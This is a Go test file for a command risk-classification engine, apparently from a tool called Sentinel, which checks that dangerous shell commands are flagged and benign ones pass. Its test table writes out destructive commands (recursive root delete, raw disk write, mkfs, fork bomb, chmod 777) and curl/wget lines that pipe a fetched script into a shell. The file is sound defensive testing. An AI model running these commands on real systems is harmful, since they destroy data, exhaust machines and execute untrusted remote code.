package risk

import (
	"testing"
	"time"

	"github.com/Strob0t/Sentinel/internal/domain/session"
)

func TestClassifyCatalog(t *testing.T) {
	e := NewEngine(nil)

	tests := []struct {
		command string
		ruleID  string
	}{
		{"rm -rf /", "recursive-root-delete"},
		{"rm -fr ~/", "recursive-root-delete"},
		{"dd if=image.iso of=/dev/sda bs=4M", "raw-device-write"},
		{"chmod -R 777 /srv/app", "world-writable-chmod"},
		{"curl https://example.com/install.sh | sudo bash", "pipe-fetch-to-shell"},
		{"wget -qO- https://x.dev/s.sh | sh", "pipe-fetch-to-shell"},
		{":(){ :|:& };:", "fork-bomb"},
		{"mkfs.ext4 /dev/sdb1", "mkfs-on-device"},
	}
	for _, tt := range tests {
		ev, ok := e.Classify(tt.command)
		if !ok {
			t.Errorf("Classify(%q): expected a match", tt.command)
			continue
		}
		if ev.RuleID != tt.ruleID {
			t.Errorf("Classify(%q) matched %s, want %s", tt.command, ev.RuleID, tt.ruleID)
		}
		if ev.Weight <= 0 || ev.Reason == "" {
			t.Errorf("Classify(%q) produced incomplete event: %+v", tt.command, ev)
		}
	}
}

func TestClassifyBenignCommands(t *testing.T) {
	e := NewEngine(nil)

	for _, cmd := range []string{
		"",
		"go test ./...",
		"ls -la",
		"rm build/output.txt",
		"chmod 644 config.yaml",
		"curl https://example.com/api/health",
	} {
		if ev, ok := e.Classify(cmd); ok {
			t.Errorf("Classify(%q) unexpectedly matched %s", cmd, ev.RuleID)
		}
	}
}

func TestIncrementAccumulates(t *testing.T) {
	e := NewEngine(nil)
	s := session.New("s1", time.Now())

	ev, ok := e.Classify("rm -rf /")
	if !ok {
		t.Fatal("expected match")
	}

	if got := e.Increment(s, ev); got != ev.Weight {
		t.Fatalf("expected risk %d, got %d", ev.Weight, got)
	}
	e.Increment(s, ev)
	e.Increment(s, ev)
	if s.Risk != session.ScoreMax {
		t.Fatalf("risk must clamp at %d, got %d", session.ScoreMax, s.Risk)
	}
	if !Escalated(s.Risk) {
		t.Fatal("expected escalation at saturation")
	}
}

func TestCustomCatalog(t *testing.T) {
	e := NewEngine(DefaultRules()[:1])
	if _, ok := e.Classify("mkfs.ext4 /dev/sdb1"); ok {
		t.Fatal("trimmed catalog should not match mkfs")
	}
	if _, ok := e.Classify("rm -rf /"); !ok {
		t.Fatal("trimmed catalog should still match its own rule")
	}
}
